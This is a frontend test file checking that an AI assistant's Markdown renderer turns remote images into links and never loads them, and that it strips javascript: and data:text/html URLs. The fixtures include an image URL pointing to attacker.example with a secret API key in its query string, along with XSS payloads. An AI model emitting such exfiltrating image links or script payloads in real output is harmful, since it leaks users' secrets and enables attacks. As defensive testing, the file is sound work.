// @vitest-environment happy-dom
import { afterEach, describe, expect, it } from "vitest";
import { cleanup, render, screen } from "@testing-library/react";
import { Markdown } from "./markdown";

afterEach(cleanup);

const imgSources = (container: HTMLElement) =>
  [...container.querySelectorAll("img")].map((img) => img.getAttribute("src"));

describe("images in assistant markdown", () => {
  it("security #9: a remote image is not loaded; it is a link to open it in a new tab", () => {
    const secret = "sk-live-123";
    const { container } = render(
      <Markdown
        text={`Here you go ![chart](https://attacker.example/c.png?q=${secret}) and ![](//cdn.attacker.example/p.gif)`}
      />,
    );
    expect(container.querySelectorAll("img")).toHaveLength(0);
    expect(container.innerHTML).not.toMatch(/<img[^>]*attacker/);
    const links = screen.getAllByTestId("remote-image");
    expect(links).toHaveLength(2);
    expect(links[0]!.getAttribute("href")).toBe(`https://attacker.example/c.png?q=${secret}`);
    expect(links[0]!.getAttribute("target")).toBe("_blank");
    expect(links[0]!.getAttribute("rel")).toBe("nofollow noopener noreferrer");
    expect(links[0]!.textContent).toContain("chart");
    expect(links[0]!.textContent).toContain("(attacker.example)");
    expect(links[1]!.textContent).toContain("Image");
    expect(links[1]!.getAttribute("href")).toBe(`${window.location.protocol}//cdn.attacker.example/p.gif`);
  });

  it("security #9: our own file URLs, data: and blob: images load in place; other schemes render nothing loadable", () => {
    const own = "/api/blob/download?key=org%2Fo1%2Fchart.png&exp=1&sig=x";
    const data = "data:image/png;base64,iVBORw0KGgo=";
    const { container } = render(
      <Markdown
        text={[
          `![own](${own})`,
          `![file](/api/files/org/o1/generated/f1/chart.png)`,
          `![inline](${data})`,
          `![blob](blob:${window.location.origin}/1234)`,
          `![same origin](${window.location.origin}/api/files/org/o1/x.png)`,
          "![js](javascript:alert(1))",
          "![html](data:text/html,<script>alert(1)</script>)",
        ].join("\n\n")}
      />,
    );
    expect(imgSources(container)).toEqual([
      own,
      "/api/files/org/o1/generated/f1/chart.png",
      data,
      `blob:${window.location.origin}/1234`,
      `${window.location.origin}/api/files/org/o1/x.png`,
    ]);
    expect(container.innerHTML).not.toContain("javascript:");
    expect(container.innerHTML).not.toContain("data:text/html");
    expect(screen.queryByTestId("remote-image")).toBeNull();
  });
});
